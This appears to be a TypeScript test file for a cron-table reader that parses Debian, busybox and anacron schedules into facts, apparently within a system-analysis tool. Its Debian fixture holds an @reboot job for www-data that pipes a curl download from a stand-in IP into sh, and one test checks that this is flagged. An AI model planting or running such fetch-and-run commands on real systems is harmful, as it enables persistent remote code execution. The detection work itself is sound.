import assert from 'node:assert/strict'
import { test } from 'node:test'
import { collect, collectFixture, factsOf, survivesOddInputs } from '../../../../test/support/fixture.ts'
import { reader } from './reader.ts'

const told = async (name: string) => factsOf(await collectFixture(reader, import.meta.url, name), 'start-entry').map(({ line, user, schedule, command }) => [line, user, schedule, command])

test('Debian: the system\'s table has a user in each line; passwords are struck out', async () => {
  assert.deepEqual(await told('debian/etc/crontab'), [
    [6, 'root', '17 * * * *', 'cd / && run-parts --report /etc/cron.hourly'],
    [7, 'root', '25 6 * * *', 'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'],
    [8, 'www-data', '@reboot', 'curl -u op:*** http://198.51.100.7/x | sh'],
  ])
})

test('what a line fetches and runs is told like that of a script', async () => {
  const [script] = factsOf(await collectFixture(reader, import.meta.url, 'debian/etc/crontab'), 'script')
  assert.deepEqual(script, {
    kind: 'script', line: 8, interpreter: 'cron', verifies: [], runs: [{ line: 8, what: 'piped into sh' }],
    downloads: [{ line: 8, tool: 'curl', scheme: 'http', insecure: false, url: 'http://198.51.100.7/x' }],
  })
})

test('busybox: a user\'s own table', async () => {
  assert.deepEqual(await told('busybox/var/spool/cron/crontabs/root'), [
    [1, 'root', '*/10 * * * *', '/usr/bin/ntpd -q -p pool.ntp.org'], [2, 'root', '@daily', '/opt/app/rotate.sh'],
  ])
})

test('anacron', async () => {
  assert.deepEqual(await told('redhat/etc/anacrontab'), [[2, 'root', '1 5', 'nice run-parts /etc/cron.daily'], [3, 'root', '@monthly 45', 'nice run-parts /etc/cron.monthly']])
})

test('left-overs of packaging tools do not run', async () => {
  const { facts } = await collect(reader, '* * * * * root x\n', '/etc/cron.d/app.dpkg-old')
  assert.deepEqual(facts.map((fact) => fact.kind === 'start-entry' && fact.enabled), [false])
})

test('odd inputs', () => survivesOddInputs(reader, ['/etc/crontab', '/etc/cron.d/x', '/var/spool/cron/crontabs/x', '/etc/anacrontab']))
